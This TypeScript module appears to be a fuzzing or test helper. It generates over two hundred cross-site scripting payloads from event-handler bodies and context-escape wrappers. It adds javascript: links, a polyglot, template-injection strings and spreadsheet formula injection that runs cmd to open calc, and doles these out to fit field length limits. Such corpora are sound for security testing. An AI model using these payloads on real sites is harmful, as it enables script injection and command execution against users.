/** What runs as soon as a browser takes it for markup. */
const bodies = [
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><script>alert(1)</script></svg>",
  "<script>alert(1)</script>",
  "<body onload=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)></select>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>x</form>",
  "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
  "<style>*{background:url(javascript:alert(1))}</style>",
  "<link rel=stylesheet href=javascript:alert(1)>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//elsewhere.example/>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
];

/** Ways out of wherever words may have been put: an attribute, a script, a comment, another element. */
const disguises: readonly ((body: string) => string)[] = [
  (body) => body,
  (body) => `">${body}`,
  (body) => `'>${body}`,
  (body) => `</textarea></title></style></script>${body}`,
  (body) => `--> ]]> ${body}`,
  (body) => body.replaceAll(" on", "/on").replace("<", "<\t"),
  (body) => body.replace(/<(\w+)/, (_, tag: string) => `<${tag.toUpperCase()}`),
  (body) => body.replaceAll("alert(1)", "&#97;lert(1)"),
];

const links = [
  "[x](javascript:alert(1))",
  "![x](javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n[x]",
  "java\tscript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "vbscript:msgbox(1)",
  'https://example.org/" onmouseover=alert(1) x="',
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "\u202Etrela\u202C<img src=x onerror=alert(1)>",
  "=cmd|'/c calc'!A1",
  "@SUM(1+9)*cmd|' /C calc'!A0",
];

/** More than two hundred attempts to have words taken for markup, each one once. */
export const attempts: readonly string[] = [
  ...new Set([
    ...disguises.flatMap((disguise) => bodies.map(disguise)),
    ...links,
  ]),
];

/** Hands out attempts in turn, as many as fit into a field of so many letters. */
export function createHand() {
  let next = 0;
  const tried = new Set<string>();
  return {
    /** How many different ones have been handed out. */
    count: () => tried.size,
    take(most: number): string {
      const taken: string[] = [];
      let left = most;
      for (let looked = 0; looked < attempts.length; looked += 1) {
        const one = attempts[next % attempts.length]!;
        if (one.length + 1 > left) {
          if (taken.length > 0) break;
          next += 1;
          continue;
        }
        taken.push(one);
        tried.add(one);
        left -= one.length + 1;
        next += 1;
      }
      return taken.join("\n");
    },
  };
}
